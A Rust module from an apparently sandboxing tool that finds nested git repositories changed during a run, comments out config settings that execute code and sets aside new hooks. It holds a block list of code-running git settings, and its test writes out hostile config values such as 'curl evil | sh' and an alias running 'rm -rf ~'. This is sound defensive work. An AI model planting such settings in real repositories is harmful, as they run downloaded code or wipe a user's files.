//! Git settings a tool leaves behind. A repository's `.git` directly in a
//! writable root is read-only to every contained program; a repository
//! nested deeper, or one a tool makes, is not — and git runs code its
//! configuration names (`core.fsmonitor`, `core.hooksPath`, filters,
//! `!` aliases, …) and its hooks on the person's next `git status`, on the
//! host. So after a run, [`sweep`] looks at every nested repository under
//! the writable roots: what changed in one since the run began is made
//! harmless — a setting that runs code commented out, a hook set aside —
//! and said.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::time::SystemTime;

/// Settings whose value git runs (or that pull in settings from elsewhere).
/// Matched on `section.key`, lowercase; `*` is any subsection.
const RUNS_CODE: &[&str] = &[
    "core.fsmonitor",
    "core.hookspath",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "sequence.editor",
    "diff.external",
    "diff.*.textconv",
    "diff.*.command",
    "difftool.*.cmd",
    "mergetool.*.cmd",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "merge.*.driver",
    "credential.helper",
    "credential.*.helper",
    "gpg.program",
    "gpg.*.program",
    "uploadpack.packobjectshook",
    "pager.*",
    "interactive.difffilter",
    "include.path",
    "includeif.*.path",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "alias.*",
];

/// What a hook set aside is renamed with.
const DISABLED: &str = ".disabled-by-hermitcrab";

/// Makes harmless what changed since `since` in the repositories nested
/// under `roots` (not a root's own `.git`, which programs cannot write);
/// answers what it did, a line each.
pub fn sweep(roots: &[PathBuf], since: SystemTime) -> Vec<String> {
    let mut found = Vec::new();
    for root in roots {
        let mut dirs = vec![root.clone()];
        while let Some(dir) = dirs.pop() {
            let Ok(entries) = std::fs::read_dir(&dir) else {
                continue;
            };
            for entry in entries.flatten() {
                let Ok(kind) = entry.file_type() else {
                    continue;
                };
                let path = entry.path();
                let is_git = entry.file_name() == ".git";
                if is_git && dir != *root {
                    found.extend(repository(&path, since));
                } else if kind.is_dir() && !is_git {
                    dirs.push(path);
                }
            }
        }
    }
    found
}

/// A nested repository's `.git` (a directory, or a file pointing to one).
fn repository(dot_git: &Path, since: SystemTime) -> Vec<String> {
    let git_dir = if dot_git.is_dir() {
        dot_git.to_path_buf()
    } else {
        match pointed(dot_git) {
            Some(dir) => dir,
            None => return Vec::new(),
        }
    };
    let mut said = Vec::new();
    for name in ["config", "config.worktree"] {
        let config = git_dir.join(name);
        if changed_since(&config, since) {
            said.extend(defuse_config(&config));
        }
    }
    let hooks = git_dir.join("hooks");
    if let Ok(entries) = std::fs::read_dir(&hooks) {
        for entry in entries.flatten() {
            let path = entry.path();
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.ends_with(".sample") || name.ends_with(DISABLED) {
                continue;
            }
            if changed_since(&path, since) {
                let aside = hooks.join(format!("{name}{DISABLED}"));
                if std::fs::rename(&path, &aside).is_ok() {
                    said.push(format!(
                        "set aside the hook {} (now {})",
                        path.display(),
                        aside.display()
                    ));
                }
            }
        }
    }
    said
}

/// The directory a `.git` file points to (`gitdir: …`).
fn pointed(dot_git: &Path) -> Option<PathBuf> {
    let text = std::fs::read_to_string(dot_git).ok()?;
    let target = text.trim().strip_prefix("gitdir:")?.trim();
    let base = dot_git.parent()?;
    Some(base.join(target))
}

/// Whether `path` (itself, not what a link points to) changed since
/// `since`: its status-change time, which a program cannot set back.
fn changed_since(path: &Path, since: SystemTime) -> bool {
    let Ok(meta) = std::fs::symlink_metadata(path) else {
        return false;
    };
    let changed = std::time::UNIX_EPOCH
        + std::time::Duration::new(meta.ctime().max(0) as u64, meta.ctime_nsec().max(0) as u32);
    changed >= since
}

/// Comments out the settings of `config` that run code; answers what it
/// commented out.
fn defuse_config(config: &Path) -> Vec<String> {
    let Ok(text) = std::fs::read_to_string(config) else {
        return Vec::new();
    };
    let (defused, names) = defuse(&text);
    if names.is_empty() {
        return Vec::new();
    }
    // Replace a link with the defused text, rather than write through it.
    let _ = std::fs::remove_file(config);
    if std::fs::write(config, defused).is_err() {
        return Vec::new();
    }
    names
        .into_iter()
        .map(|n| format!("disabled `{n}` in {}", config.display()))
        .collect()
}

/// `text` (a git config file) with each setting that runs code commented
/// out, and their names.
pub fn defuse(text: &str) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut names = Vec::new();
    let mut section = String::new();
    let mut continued = false;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim();
        if continued {
            out.push_str("# ");
            out.push_str(line);
            continued = trimmed.ends_with('\\');
            continue;
        }
        if let Some(header) = trimmed.strip_prefix('[') {
            section = header_name(header);
            out.push_str(line);
            continue;
        }
        let key = trimmed
            .split(['=', ' ', '\t'])
            .next()
            .unwrap_or_default()
            .to_lowercase();
        let name = format!("{section}.{key}");
        if !key.is_empty() && !trimmed.starts_with(['#', ';']) && runs_code(&name) {
            out.push_str("# disabled by hermitcrab (it would run code): ");
            out.push_str(line);
            names.push(name);
            continued = trimmed.ends_with('\\');
        } else {
            out.push_str(line);
        }
    }
    (out, names)
}

/// `section` or `section.subsection` of a `[section "subsection"]` header
/// (the section lowercase; the subsection as written).
fn header_name(header: &str) -> String {
    let header = header.split(']').next().unwrap_or_default().trim();
    match header.split_once(char::is_whitespace) {
        Some((section, sub)) => format!(
            "{}.{}",
            section.to_lowercase(),
            sub.trim().trim_matches('"')
        ),
        None => header.to_lowercase(),
    }
}

/// Whether the setting `section[.subsection].key` runs code.
pub fn runs_code(name: &str) -> bool {
    let (section, rest) = name.split_once('.').unwrap_or((name, ""));
    let key = rest.rsplit('.').next().unwrap_or(rest);
    let sub = rest.strip_suffix(key).map(|s| s.trim_end_matches('.'));
    RUNS_CODE.iter().any(|pattern| {
        let parts: Vec<&str> = pattern.split('.').collect();
        match parts.as_slice() {
            [s, k] if *k == "*" => *s == section,
            [s, k] => *s == section && *k == key && sub.is_none_or(str::is_empty),
            [s, _, k] => *s == section && *k == key && sub.is_some_and(|s| !s.is_empty()),
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_code_are_commented_out_and_the_rest_kept() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./evil.sh\n[filter \"lfs\"]\n\tclean = curl evil | sh\n[remote \"origin\"]\n\turl = https://x\n[alias]\n\tst = !rm -rf ~\n[user]\n\tname = me\n";
        let (out, names) = defuse(text);
        assert_eq!(names, ["core.fsmonitor", "filter.lfs.clean", "alias.st"]);
        assert!(out.contains("repositoryformatversion = 0"));
        assert!(out.contains("url = https://x"));
        assert!(out.contains("name = me"));
        assert!(!out.lines().any(|l| l.trim() == "fsmonitor = ./evil.sh"));
    }
}
